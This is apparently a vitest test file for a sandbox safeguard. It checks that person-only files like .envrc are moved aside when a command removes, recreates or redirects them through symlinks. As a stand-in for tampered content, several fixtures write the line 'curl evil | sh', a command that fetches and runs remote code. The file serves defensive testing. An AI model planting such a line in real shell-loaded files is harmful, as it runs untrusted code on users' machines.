import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { personOnlyAtStart, REFUSED_SUFFIX, settleMadePersonOnly } from './made-person-only.ts'

// For a contained command, what was at a person-only path when it started
// is told by what it is, not by its path (the sandbox's walk asks for
// that); for a call nothing contains, only a path that was not there
// counts. On the real file system, without the sandbox.

const folders: string[] = []
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true })
})

function workspace(): string {
  const folder = mkdtempSync(path.join(tmpdir(), 'assent-made-identity-'))
  folders.push(folder)
  writeFileSync(path.join(folder, '.envrc'), 'export A=1\n')
  return folder
}

const movedAside = (folder: string) =>
  readdirSync(folder).filter((name) => name.startsWith(`.envrc${REFUSED_SUFFIX}`))

describe('settleMadePersonOnly tells what was there by what it is', () => {
  it('leaves a person-only file that is still the one that was there', () => {
    const folder = workspace()
    const start = personOnlyAtStart([folder], { byIdentity: true })
    writeFileSync(path.join(folder, 'notes.txt'), 'not person-only')
    expect(settleMadePersonOnly(start).made).toEqual([])
    expect(movedAside(folder)).toEqual([])
  })

  it('moves aside a file removed and made again at the same path, even under the same inode number', () => {
    const folder = workspace()
    const envrc = path.join(folder, '.envrc')
    const before = lstatSync(envrc).ino
    const start = personOnlyAtStart([folder], { byIdentity: true })
    rmSync(envrc)
    writeFileSync(envrc, 'curl evil | sh\n')
    // ext4 and tmpfs commonly hand the freed number out again at once: the
    // row holds either way, and says which case it ran.
    const sameNumber = lstatSync(envrc).ino === before
    const { made } = settleMadePersonOnly(start)
    expect(
      made.map((entry) => entry.path),
      `same inode number: ${sameNumber}`,
    ).toEqual([envrc])
    expect(movedAside(folder)).toHaveLength(1)
  })

  it('moves aside a file put where a link was', () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'assent-made-identity-'))
    folders.push(folder)
    writeFileSync(path.join(folder, 'shared-envrc'), 'export A=1\n')
    symlinkSync('shared-envrc', path.join(folder, '.envrc'))
    const start = personOnlyAtStart([folder], { byIdentity: true })
    rmSync(path.join(folder, '.envrc'))
    writeFileSync(path.join(folder, '.envrc'), 'curl evil | sh\n')
    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
      path.join(folder, '.envrc'),
    ])
  })

  it('moves aside a file put at a linked person-only file’s target after its folder was renamed', () => {
    const folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'assent-made-identity-')))
    folders.push(folder)
    mkdirSync(path.join(folder, 'shared'))
    writeFileSync(path.join(folder, 'shared', 'envrc'), 'export A=1\n')
    symlinkSync('shared/envrc', path.join(folder, '.envrc'))
    const start = personOnlyAtStart([folder], { byIdentity: true })
    // The link itself is untouched: only what it reads is new.
    renameSync(path.join(folder, 'shared'), path.join(folder, 'shared-old'))
    mkdirSync(path.join(folder, 'shared'))
    writeFileSync(path.join(folder, 'shared', 'envrc'), 'curl evil | sh\n')
    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
      path.join(folder, 'shared', 'envrc'),
    ])
    expect(existsSync(path.join(folder, 'shared', 'envrc'))).toBe(false)
  })

  it('moves aside a file made where a linked person-only file leads, its end missing at start, for any call', () => {
    const folder = realpathSync(mkdtempSync(path.join(tmpdir(), 'assent-made-identity-')))
    folders.push(folder)
    symlinkSync('shared-envrc', path.join(folder, '.envrc'))
    const start = personOnlyAtStart([folder])
    writeFileSync(path.join(folder, 'shared-envrc'), 'curl evil | sh\n')
    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
      path.join(folder, 'shared-envrc'),
    ])
  })

  it('for a call nothing contains, leaves a file the person or an allowed edit saved anew', () => {
    const folder = workspace()
    const envrc = path.join(folder, '.envrc')
    const start = personOnlyAtStart([folder])
    rmSync(envrc)
    writeFileSync(envrc, 'export A=2\n')
    expect(settleMadePersonOnly(start).made).toEqual([])
    writeFileSync(path.join(folder, '.gitmodules'), '[submodule "x"]\n')
    expect(settleMadePersonOnly(start).made.map((entry) => entry.path)).toEqual([
      path.join(folder, '.gitmodules'),
    ])
  })
})
